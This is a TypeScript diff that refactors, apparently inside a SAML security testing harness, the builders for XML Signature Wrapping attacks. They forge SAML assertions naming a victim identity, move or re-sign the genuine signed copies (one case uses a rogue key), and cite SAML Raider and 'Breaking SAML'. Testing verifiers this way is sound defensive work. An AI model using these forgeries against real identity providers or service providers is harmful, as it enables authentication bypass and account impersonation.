@@ -42,6 +42,30 @@ function unsignedCopy(element: Element): Element {
   return copy;
 }
 
+/** An unsigned copy of the genuine assertion that names the victim, with its own ID unless `sameId`. */
+function forgedCopy(assertion: Element, ctx: FaultContext, sameId = false): Element {
+  const evil = unsignedCopy(assertion);
+  rewriteIdentity(evil, ctx.identities.victim);
+  if (!sameId) evil.setAttribute('ID', evilId(assertion.getAttribute('ID') ?? ''));
+  return evil;
+}
+
+/**
+ * The genuine assertion rewritten in place to name the victim (keeping its Signature, whose Reference still names
+ * the old ID unless `sameId`), and the unsigned genuine copy that signature still verifies.
+ */
+function forgeInPlace(
+  doc: Document,
+  ctx: FaultContext,
+  sameId = false,
+): { assertion: Element; original: Element } {
+  const assertion = assertionOf(doc);
+  const original = unsignedCopy(assertion);
+  rewriteIdentity(assertion, ctx.identities.victim);
+  if (!sameId) assertion.setAttribute('ID', evilId(assertion.getAttribute('ID') ?? ''));
+  return { assertion, original };
+}
+
 const XSW_REFS = [REF.samlRaider, REF.breakingSaml('5.1 (signature wrapping)')];
 
 function wrap(
@@ -108,10 +132,7 @@ export const WRAPPING_FAULTS: readonly FaultDefinition[] = [
     ['Response/*'],
     (doc, ctx) => {
       const assertion = assertionOf(doc);
-      const evil = unsignedCopy(assertion);
-      rewriteIdentity(evil, ctx.identities.victim);
-      evil.setAttribute('ID', evilId(assertion.getAttribute('ID') ?? ''));
-      root(doc).insertBefore(evil, assertion);
+      root(doc).insertBefore(forgedCopy(assertion, ctx), assertion);
     },
   ),
   wrap(
@@ -122,9 +143,7 @@ export const WRAPPING_FAULTS: readonly FaultDefinition[] = [
     ['Response/*'],
     (doc, ctx) => {
       const assertion = assertionOf(doc);
-      const evil = unsignedCopy(assertion);
-      rewriteIdentity(evil, ctx.identities.victim);
-      evil.setAttribute('ID', evilId(assertion.getAttribute('ID') ?? ''));
+      const evil = forgedCopy(assertion, ctx);
       root(doc).appendChild(evil);
       evil.appendChild(assertion);
     },
@@ -136,11 +155,7 @@ export const WRAPPING_FAULTS: readonly FaultDefinition[] = [
     'assertion',
     ['Response/*'],
     (doc, ctx) => {
-      const assertion = assertionOf(doc);
-      const original = unsignedCopy(assertion);
-      rewriteIdentity(assertion, ctx.identities.victim);
-      assertion.setAttribute('ID', evilId(assertion.getAttribute('ID') ?? ''));
-      root(doc).appendChild(original);
+      root(doc).appendChild(forgeInPlace(doc, ctx).original);
     },
   ),
   wrap(
@@ -150,10 +165,7 @@ export const WRAPPING_FAULTS: readonly FaultDefinition[] = [
     'assertion',
     ['Response/Assertion@ID', 'Response/Assertion/Signature/*', ...IDENTITY],
     (doc, ctx) => {
-      const assertion = assertionOf(doc);
-      const original = unsignedCopy(assertion);
-      rewriteIdentity(assertion, ctx.identities.victim);
-      assertion.setAttribute('ID', evilId(assertion.getAttribute('ID') ?? ''));
+      const { assertion, original } = forgeInPlace(doc, ctx);
       ownSignatureOf(assertion).appendChild(original);
     },
   ),
@@ -167,9 +179,7 @@ export const WRAPPING_FAULTS: readonly FaultDefinition[] = [
       const assertion = assertionOf(doc);
       const extensions = doc.createElement('Extensions');
       root(doc).insertBefore(extensions, assertion);
-      const evil = unsignedCopy(assertion);
-      rewriteIdentity(evil, ctx.identities.victim);
-      extensions.appendChild(evil);
+      extensions.appendChild(forgedCopy(assertion, ctx, true));
     },
   ),
   wrap(
@@ -179,9 +189,7 @@ export const WRAPPING_FAULTS: readonly FaultDefinition[] = [
     'assertion',
     ['Response/Assertion/Signature/*', ...IDENTITY],
     (doc, ctx) => {
-      const assertion = assertionOf(doc);
-      const original = unsignedCopy(assertion);
-      rewriteIdentity(assertion, ctx.identities.victim);
+      const { assertion, original } = forgeInPlace(doc, ctx, true);
       const object = doc.createElement('Object');
       ownSignatureOf(assertion).appendChild(object);
       object.appendChild(original);
@@ -195,9 +203,7 @@ export const WRAPPING_FAULTS: readonly FaultDefinition[] = [
     ['Response/*'],
     (doc, ctx) => {
       const assertion = assertionOf(doc);
-      const evil = unsignedCopy(assertion);
-      rewriteIdentity(evil, ctx.identities.victim);
-      evil.setAttribute('ID', evilId(assertion.getAttribute('ID') ?? ''));
+      const evil = forgedCopy(assertion, ctx);
       const extensions = doc.createElementNS(NS_PROTOCOL, 'samlp:Extensions');
       root(doc).insertBefore(extensions, assertion);
       extensions.appendChild(assertion);
@@ -238,11 +244,8 @@ export const WRAPPING_FAULTS: readonly FaultDefinition[] = [
     touches: ['Response/*'],
     build(genuine, ctx) {
       const doc = parseXml(genuine.xml);
-      const assertion = assertionOf(doc);
-      const genuineSignature = ownSignatureOf(assertion);
-      const original = unsignedCopy(assertion);
-      rewriteIdentity(assertion, ctx.identities.victim);
-      assertion.setAttribute('ID', evilId(assertion.getAttribute('ID') ?? ''));
+      const genuineSignature = ownSignatureOf(assertionOf(doc));
+      const { assertion, original } = forgeInPlace(doc, ctx);
       signElement(assertion, { key: ctx.rogue.privateKey, keyInfo: { certBase64: ctx.rogue.certBase64 } });
       assertion.appendChild(genuineSignature);
       root(doc).appendChild(original);
